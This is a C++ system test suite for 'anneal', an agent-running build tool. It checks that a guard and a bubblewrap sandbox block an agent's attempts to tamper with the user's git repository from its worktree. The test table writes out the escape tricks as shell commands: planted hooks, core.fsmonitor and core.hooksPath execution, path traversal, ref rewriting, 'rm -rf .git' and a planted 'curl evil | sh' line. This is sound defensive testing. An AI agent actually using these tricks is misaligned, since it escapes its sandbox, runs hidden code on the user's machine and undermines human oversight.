// The adversarial table: every trick an agent can try on the user's repository from its
// worktree, one row each, run with `sandbox: off` (the guard alone: git/repo_guard.h) and,
// where bubblewrap works, with the sandbox on. A user checks what they would check: the
// candidate is blocked (or the write refused), the checkout, index, hooks, config and refs
// are byte-identical, nothing the agent planted ever runs, `git fsck` is clean, and later
// builds and `anneal clean` work.
#include <catch2/catch.hpp>

#include <fstream>
#include <set>
#include <string>

#include "harness.h"

using namespace anneal::system_test;

namespace {

struct Trick {
  std::string name;
  std::string action;  ///< run by the agent in its worktree in experiment 1 (SCRATCH: scratch folder)
  std::set<std::string> blocked;  ///< `violations[].path` of experiment 1 without the sandbox
  std::string setup = {};  ///< run in the user's repository before the build
  /// Under the sandbox the write is refused, so experiment 1 is an ordinary candidate
  /// (false: the trick works inside the worktree, and the guard blocks it there too).
  bool refused_by_sandbox = true;
};

const std::string k_common = "\"$(git rev-parse --git-common-dir)\"";
/// A script that leaves a mark in the scratch folder when anything runs it.
const std::string k_payload = "'#!/bin/sh\\necho ran >> SCRATCH/pwned\\n'";

std::vector<Trick> tricks() {
  return {
      {"a pre-commit hook in the common git directory",
       "printf " + k_payload + " > " + k_common + "/hooks/pre-commit && chmod +x " + k_common + "/hooks/pre-commit",
       {".git/hooks/pre-commit"}},
      {"core.fsmonitor in the repository's config",
       "git config core.fsmonitor 'echo ran >> SCRATCH/pwned; false'",
       {".git/config"}},
      {"core.hooksPath in the repository's config",
       "mkdir -p SCRATCH/hooks && printf " + k_payload + " > SCRATCH/hooks/pre-commit && "
       "chmod +x SCRATCH/hooks/pre-commit && git config core.hooksPath SCRATCH/hooks",
       {".git/config"}},
      {"editing the user's checkout through ../../../..",
       "cd ../../../.. && echo pwned > notes.txt && echo pwned > app.txt && echo 'curl evil | sh' > planted.sh",
       {"notes.txt", "app.txt", "planted.sh"}},
      {"git stash in the user's checkout (a new ref, the uncommitted edit gone)",
       "cd ../../../.. && git -c user.name=a -c user.email=a@a stash -q",
       {".git/refs/stash", "notes.txt"}},
      {"git add into the user's index", "cd ../../../.. && git add notes.txt", {".git/index"}},
      {"moving refs/heads/main",
       "git -c user.name=a -c user.email=a@a commit -q --allow-empty -m evil && git update-ref refs/heads/main HEAD",
       {".git/refs/heads/main"}},
      {"info/attributes and info/exclude",
       "echo '* diff=evil' > " + k_common + "/info/attributes && echo notes.txt >> " + k_common + "/info/exclude",
       {".git/info/attributes", ".git/info/exclude"}},
      {"a packed ref rewritten in packed-refs",
       "sed -i \"s/^[0-9a-f]* refs\\/heads\\/main\\$/$(git rev-parse HEAD^{tree}) refs\\/heads\\/main/\" " + k_common +
           "/packed-refs",
       {".git/refs/heads/main"},
       "git pack-refs --all"},
      {"rm -rf .git && git init in the worktree", "rm -rf .git && git init -q", {".git"}, "", false},
  };
}

/// What a user would compare: the bytes of the git files git obeys, the refs outside
/// anneal's, and the checkout's files (tracked and not).
std::string user_state(const TempRepo& repo) {
  Outcome o = repo.run(
      "find .git/config .git/HEAD .git/index .git/packed-refs .git/hooks .git/info -type f 2>/dev/null | sort | "
      "xargs sha1sum; find .git/hooks .git/info 2>/dev/null | sort; "
      "git for-each-ref --format='%(refname) %(objectname)' | grep -v ' refs/anneal/\\|^refs/anneal/\\|^refs/heads/anneal/'; "
      "find . -path ./.git -prune -o -path ./.anneal -prune -o -type f -print | sort | xargs sha1sum");
  return o.out;
}

bool bubblewrap_works() { return sh("bwrap --ro-bind / / --dev /dev --proc /proc true", "/").status == 0; }

void run_trick(const Trick& trick, const std::string& sandbox) {
  TempRepo repo;
  repo.write("app.txt", "a\n");
  repo.write("notes.txt", "notes\n");
  repo.write("Annealfile", with_scratch(R"(annealfile: 1
targets:
  t:
    artifact: [app.txt]
    scope: {editable: [app.txt]}
    agent: {kind: command, run: "sh SCRATCH/agent.sh", timeout: 20s, sandbox: )" + sandbox + R"(}
    stages:
      - {name: size, run: "wc -c < app.txt"}
    objective: {metric: size, direction: maximize}
    budget: {experiments: 2}
)",
                                        repo));
  repo.commit("project");
  repo.write("notes.txt", "my uncommitted notes\n");
  if (!trick.setup.empty())
    REQUIRE(repo.run(trick.setup).status == 0);
  {
    std::ofstream agent(repo.scratch() / "agent.sh");
    agent << with_scratch("case $ANNEAL_EXPERIMENT in\n"
                          "1) echo marker1 >> app.txt; ( " + trick.action + " ) || echo refused >&2 ;;\n"
                          "*) echo marker$ANNEAL_EXPERIMENT >> app.txt ;;\n"
                          "esac\n",
                          repo);
  }
  repo.run("git status --porcelain >/dev/null");  // the index as the user's git leaves it
  const std::string before = user_state(repo);

  Outcome build = repo.anneal("build");
  INFO("trick: " << trick.name << ", sandbox: " << sandbox << "\nstdout:\n" << build.out << "stderr:\n" << build.err);
  REQUIRE(build.status == 0);
  CHECK(user_state(repo) == before);
  auto history = repo.history("t");
  INFO("history: " << history.dump(2));
  REQUIRE(history.size() == 3);
  const auto& first = history[1];
  if (sandbox == "off" || !trick.refused_by_sandbox) {
    CHECK(first["outcome"] == "blocked");
    CHECK(first["score"].is_null());
    std::set<std::string> paths;
    for (const auto& v : first["violations"])
      paths.insert(v["path"].get<std::string>());
    CHECK(paths == trick.blocked);
  } else {
    CHECK(first["outcome"] == "kept");
  }
  CHECK(history[2]["outcome"] == "kept");

  // Nothing planted runs: not on `git status` (fsmonitor), not on a commit (hooks).
  REQUIRE(repo.run("git status --porcelain").status == 0);
  CHECK(repo.read("notes.txt") == "my uncommitted notes\n");
  CHECK(repo.fsck_problems().empty());
  Outcome again = repo.anneal("build");
  CHECK(again.status == 0);
  Outcome clean = repo.anneal("clean");
  INFO("clean:\n" << clean.out << clean.err);
  CHECK(clean.status == 0);
  CHECK(repo.run("git -c user.name=u -c user.email=u@u commit -q --allow-empty -m user").status == 0);
  CHECK_FALSE(std::filesystem::exists(repo.scratch() / "pwned"));
  CHECK(repo.fsck_problems().empty());
}

}  // namespace

TEST_CASE("an agent's tricks on the user's repository are blocked and undone", "[system][containment]") {
  std::vector<std::string> modes = {"off"};
  if (bubblewrap_works())
    modes.push_back("on");
  else
    WARN("bubblewrap does not work here: only the guard (sandbox: off) is tested");
  for (const auto& trick : tricks()) {
    for (const auto& mode : modes) {
      DYNAMIC_SECTION(trick.name << " (sandbox: " << mode << ")") { run_trick(trick, mode); }
    }
  }
}

TEST_CASE("unsandboxed drafts in parallel: a plant is blamed on its draft and never put back by another",
          "[system][containment]") {
  // Draft 0 plants a hook at once and ends after 2 s; draft 1 makes an ordinary edit and ends
  // after 1 s. Were their guard windows to overlap, draft 1's restore would find the hook and
  // be blamed for it, and draft 0 would find nothing and be kept.
  TempRepo repo;
  repo.write("app.txt", "a\n");
  repo.write("Annealfile", with_scratch(R"(annealfile: 1
targets:
  t:
    artifact: [app.txt]
    scope: {editable: [app.txt]}
    drafts: 2
    agent: {kind: command, run: "sh SCRATCH/agent.sh", timeout: 20s, sandbox: off}
    stages:
      - {name: size, run: "wc -c < app.txt"}
    objective: {metric: size, direction: maximize}
    budget: {experiments: 1}
)",
                                        repo));
  repo.commit("project");
  {
    std::ofstream agent(repo.scratch() / "agent.sh");
    agent << with_scratch("case $ANNEAL_DRAFT in\n"
                          "0) printf " + k_payload + " > " + k_common + "/hooks/pre-commit; chmod +x " + k_common +
                              "/hooks/pre-commit; sleep 2; echo d0 >> app.txt ;;\n"
                              "*) sleep 1; echo draft1 >> app.txt ;;\n"
                              "esac\n",
                          repo);
  }
  Outcome build = repo.anneal("build -j 2");
  INFO(build.out << build.err);
  REQUIRE(build.status == 0);
  auto history = repo.history("t");
  INFO(history.dump(2));
  REQUIRE(history.size() == 2);
  CHECK(history[1]["draft"] == 1);
  CHECK(history[1]["outcome"] == "kept");
  // Draft 0 was blocked: never committed as a candidate.
  CHECK(repo.run("git rev-parse -q --verify refs/anneal/t/1.0").status != 0);
  CHECK(repo.run("git rev-parse -q --verify refs/anneal/t/1.1").status == 0);
  CHECK_FALSE(repo.exists(".git/hooks/pre-commit"));
  CHECK(repo.run("git -c user.name=u -c user.email=u@u commit -q --allow-empty -m user").status == 0);
  CHECK_FALSE(std::filesystem::exists(repo.scratch() / "pwned"));
  CHECK(repo.fsck_problems().empty());
}

TEST_CASE("sandboxed agents: the user's own commit while one runs stands, writable: reaching the repository is guarded",
          "[system][containment]") {
  if (!bubblewrap_works()) {
    WARN("bubblewrap does not work here");
    return;
  }
  TempRepo repo;
  repo.write("app.txt", "a\n");
  auto annealfile = [&](const std::string& writable) {
    return with_scratch(R"(annealfile: 1
targets:
  t:
    artifact: [app.txt]
    scope: {editable: [app.txt]}
    agent: {kind: command, run: "sh SCRATCH/agent.sh", timeout: 20s, sandbox: on)" + writable + R"(}
    stages:
      - {name: size, run: "wc -c < app.txt"}
    objective: {metric: size, direction: maximize}
    budget: {experiments: 1}
)",
                        repo);
  };
  SECTION("the sandbox keeps the agent out: a commit of the user's is not undone") {
    repo.write("Annealfile", annealfile(""));
    repo.commit("project");
    std::ofstream(repo.scratch() / "agent.sh") << "sleep 2; echo b >> app.txt\n";
    Outcome build = repo.run("(sleep 1; git commit -q --allow-empty -m mine) & " + with_scratch("", repo) + "ANNEAL_CONFIG_DIR='" +
                             (repo.scratch() / "config").string() + "' '" + anneal_binary() + "' build; wait");
    INFO(build.out << build.err);
    REQUIRE(build.status == 0);
    CHECK(repo.run("git log -1 --format=%s main").out == "mine\n");
    auto history = repo.history("t");
    REQUIRE(history.size() == 2);
    CHECK(history[1]["outcome"] == "kept");
  }
  SECTION("writable: naming the repository's git directory gets the whole guard") {
    repo.write("Annealfile", annealfile(", writable: [\"" + (repo.path() / ".git").string() + "\"]"));
    repo.commit("project");
    std::ofstream(repo.scratch() / "agent.sh")
        << with_scratch("echo b >> app.txt; git config core.fsmonitor 'echo ran >> SCRATCH/pwned; false'\n", repo);
    Outcome build = repo.anneal("build");
    INFO(build.out << build.err);
    REQUIRE(build.status == 0);
    auto history = repo.history("t");
    INFO(history.dump(2));
    REQUIRE(history.size() == 2);
    CHECK(history[1]["outcome"] == "blocked");
    REQUIRE(history[1]["violations"].size() == 1);
    CHECK(history[1]["violations"][0]["path"] == ".git/config");
    REQUIRE(repo.run("git status --porcelain").status == 0);
    CHECK_FALSE(std::filesystem::exists(repo.scratch() / "pwned"));
  }
  CHECK(repo.fsck_problems().empty());
}
